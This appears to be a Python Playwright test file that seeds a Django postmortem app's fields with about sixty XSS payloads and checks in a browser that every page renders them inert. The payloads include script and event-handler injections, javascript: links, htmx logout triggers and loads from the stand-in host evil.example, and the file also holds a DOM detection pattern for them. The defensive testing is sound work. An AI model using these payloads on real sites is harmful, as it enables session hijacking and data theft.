"""Text that wants to be a script: in every field of text, on every page, in a real browser."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from django.db import models
from django.test import Client
from playwright.sync_api import BrowserContext, Page

from postmortems import search
from postmortems.models import GlossaryEntry, Postmortem, PostmortemTemplate, TemplateSection, User
from tests import factory
from tests.journeys.watching import Watched, signed_in
from tests.postmortems.canaries import Secret, word
from tests.postmortems.test_leaks import Names, Site, addresses

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), pytest.mark.timeout(600)]

EVIL = "https://evil.example"
PAYLOADS = (
    # elements that run, load or act by being there
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(2)</sCrIpT >",
    f"<script src={EVIL}/3.js></script>",
    "</title></textarea></style></noscript><script>alert(4)</script>",
    "<img src=x onerror=alert(5)>",
    "<img/src=x\tonerror\n=alert(6)//",
    f"<img src={EVIL}/7.png>",
    f"<img srcset='{EVIL}/8.png 2x'>",
    "<svg onload=alert(9)>",
    "<svg><script>alert(10)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(11) /><a id=x>x</a></svg>",
    f"<svg><use href='{EVIL}/12.svg#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(13)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(14)>x</math>",
    "<details open ontoggle=alert(15)>",
    "<input autofocus onfocus=alert(16)>",
    "<video><source onerror=alert(17)></video>",
    f"<audio src={EVIL}/18.mp3 autoplay>",
    "<iframe srcdoc='<script>alert(19)</script>'></iframe>",
    "<iframe src=javascript:alert(20)>",
    f"<object data={EVIL}/21></object>",
    f"<embed src={EVIL}/22>",
    f"<link rel=stylesheet href={EVIL}/23.css>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/24'>",
    f"<base href={EVIL}/25/>",
    f"<form action={EVIL}/26><button>Go</button></form>",
    f"<button formaction={EVIL}/27>Go</button>",
    f"<style>@import '{EVIL}/28.css'; body {{ background: url({EVIL}/28) }}</style>",
    f"<p style=\"background:url('{EVIL}/29')\">x</p>",
    "<body onpageshow=alert(30)>",
    "<template><script>alert(31)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(32)>'>",
    # out of an attribute
    '" onmouseover="alert(33)" autofocus onfocus="alert(33)',
    "' onmouseover='alert(34)' x='",
    '"><script>alert(35)</script>',
    "` onmouseover=alert(36) `",
    # links
    "[x](javascript:alert(37))",
    "[x](JaVaScRiPt&colon;alert(38))",
    "[x](java\tscript:alert(39))",
    "[x](&#106;avascript:alert(40))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg0MSk8L3NjcmlwdD4=)",
    "[x](vbscript:msgbox(42))",
    "![x](javascript:alert(43))",
    f"![x]({EVIL}/44.png)",
    "<javascript:alert(45)>",
    "[x]: javascript:alert(46)\n\n[x]",
    '[a](https://a.example/"onmouseover="alert(47)")',
    "[x](//evil.example/48)",
    # what a template, a script or a parser of HTML would take for its own
    "{{ 7|add:49 }}{% debug %}{% load x %}",
    "${alert(50)} #{alert(50)} <%= alert(50) %>",
    "<div hx-get='/accounts/logout/' hx-trigger=load hx-on:htmx:load='alert(51)'>",
    "<a data-hx-post='/accounts/logout/' data-hx-trigger='load'>x</a>",
    "<!--><script>alert(53)</script>-->",
    "<![CDATA[<script>alert(54)</script>]]>",
    "\u003cscript\u003ealert(55)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(56)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(57)</scr\u200bipt>",
    "\u202e<script>alert(58)</script>",
    f"<img src='{EVIL}/59?",
    f"<a href='{EVIL}/60' target=_blank ping={EVIL}/60>x</a>",
    "```\n</code></pre><script>alert(61)</script>\n```",
    "| a | b |\n|---|---|\n| <svg/onload=alert(62)> | x |",
)
EVERYTHING = "\n\n".join(PAYLOADS)
URLS = ("javascript:alert(70)//", "data:text/html,<script>alert(71)</script>", f'{EVIL}/72" onclick="alert(72)')


class Hostile(Secret):
    """Each text is as many payloads as fit; each field begins with another one."""

    turn = 0

    def say(self, model: type[models.Model], field: models.Field[Any, Any], number: int) -> str:
        if isinstance(field, models.SlugField) or field.name in {"identity", "token_hash", "object_key"}:
            return word(model.__name__, field.name, str(number))
        Hostile.turn += 1
        if isinstance(field, models.URLField) or field.name.endswith("url"):
            return URLS[Hostile.turn % len(URLS)]
        return fitting(Hostile.turn, getattr(field, "max_length", None))

    def text(self, model: type[models.Model], field: models.Field[Any, Any], number: int) -> Any:
        said = super().text(model, field, number)
        # A file's name is a path, and an address is as it was typed: not what the words' shapes make of it.
        return self.say(model, field, number) if field.name.endswith("url") else said


def fitting(start: int, length: int | None) -> str:
    if length is None:
        return EVERYTHING
    turned = [*PAYLOADS[start % len(PAYLOADS) :], *PAYLOADS[: start % len(PAYLOADS)]]
    text = ""
    for payload in (each for each in turned if "\n" not in each and len(each) <= length):
        if len(text) + len(payload) < length:
            text += f"{payload} "
    return text.strip()


def test_there_are_enough_of_them_and_each_fits_somewhere() -> None:
    assert len(set(PAYLOADS)) >= 40
    assert all(payload in EVERYTHING for payload in PAYLOADS)
    assert len(fitting(0, 300)) > 200


@pytest.fixture
def hostile(site: str) -> tuple[User, Names]:
    """Everything is hostile: each field of each document, names of people and teams, templates, the glossary."""
    world = Site()
    reader = world.member
    reader.give_roles("administrator", "author", "reviewer", "manager")
    User.objects.filter(pk=reader.pk).update(first_name=fitting(3, 150), last_name=fitting(9, 150))
    User.objects.filter(pk=world.former.pk).update(first_name=fitting(20, 150))
    type(world.team).objects.filter(pk=world.team.pk).update(name=fitting(30, 100))
    GlossaryEntry.objects.create(terms="<svg onload=alert(1)>\n<img src=x onerror=alert(2)>")
    template = PostmortemTemplate.objects.create(name=fitting(40, 100), introduction=EVERYTHING, severity="sev4")
    TemplateSection.objects.create(template=template, key="summary", prompt=EVERYTHING, starter=EVERYTHING)
    secret = Hostile(member=reader, former=world.former, team=world.team, opened=world.opened)
    Postmortem.objects.filter(pk=secret.postmortem.pk).update(owner=reader)
    search.changed(*secret.documents(), world.postmortem, world.incident)
    return reader, Names.of(world, secret)


def pages(client: Client, names: Names) -> Iterator[str]:
    """Those that a browser would show as a page."""
    searches = [
        f"/search/?q={quoted}" for quoted in ("pool", "%3Cscript%3Ealert(1)%3C/script%3E", "x%22onfocus=alert(2)")
    ]
    for address in [*addresses(names), *searches]:
        if "/admin/" not in address and "/api/" not in address and "/accounts/" not in address:
            answer = client.get(address)
            if answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/html"):
                yield address


REPORTER = """
document.addEventListener('securitypolicyviolation', event =>
  console.error('policy: ' + event.violatedDirective + ' ' + event.blockedURI + ' ' + event.sample));
"""
# What no text may become, whatever a browser would do with it.
DANGEROUS = """() => [...document.querySelectorAll('*')].flatMap(element => {
  const found = [];
  for (const {name, value} of element.attributes) {
    if (/^(on|hx-on|style$|srcdoc$|formaction$|ping$)/.test(name)) found.push(name);
    const address = /^(href|src|action|xlink:href|data)$/.test(name);
    if (address && /^\\s*(javascript|vbscript|data:text)/i.test(value)) found.push(name + '=' + value);
    if (/^(src|srcset|action|data)$/.test(name) && /evil/.test(value)) found.push(name + '=' + value);
  }
  const tag = element.localName;
  if (/^(iframe|object|embed|base|math|audio|video|use|animate)$/.test(tag)) found.push('<' + tag + '>');
  const inline = tag === 'script' && !element.src || tag === 'style';
  if (inline || tag === 'meta' && element.httpEquiv) found.push('<' + tag + '>');
  return found.map(what => tag + ': ' + what + ' in ' + element.outerHTML.slice(0, 120));
})"""


def test_no_text_becomes_anything_but_text(
    context: BrowserContext, watched: Watched, site: str, hostile: tuple[User, Names]
) -> None:
    reader, names = hostile
    client = factory.signed_in(reader)
    context.add_init_script(REPORTER)
    page: Page = signed_in(context, site, reader)
    seen, faults = 0, []

    for address in pages(client, names):
        page.goto(address, wait_until="load")
        seen += 1
        faults += [f"{address} {fault}" for fault in page.evaluate(DANGEROUS)]
        faults += [f"{address} {complaint}" for complaint in watched.complaints]
        watched.complaints.clear()
        assert page.url.startswith(site), address

    assert faults == []
    assert seen > 30


def test_the_watch_sees_what_it_looks_for(context: BrowserContext, watched: Watched, site: str, alice: User) -> None:
    context.add_init_script(REPORTER)
    page = signed_in(context, site, alice)
    page.goto("/account/")

    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<p style=\"color:red\" onclick=x>x</p>')")
    page.evaluate(f"document.body.insertAdjacentHTML('beforeend', '<img src=\"{EVIL}/x.png\">')")

    assert len(page.evaluate(DANGEROUS)) >= 3
    assert any("policy:" in complaint for complaint in watched.complaints)
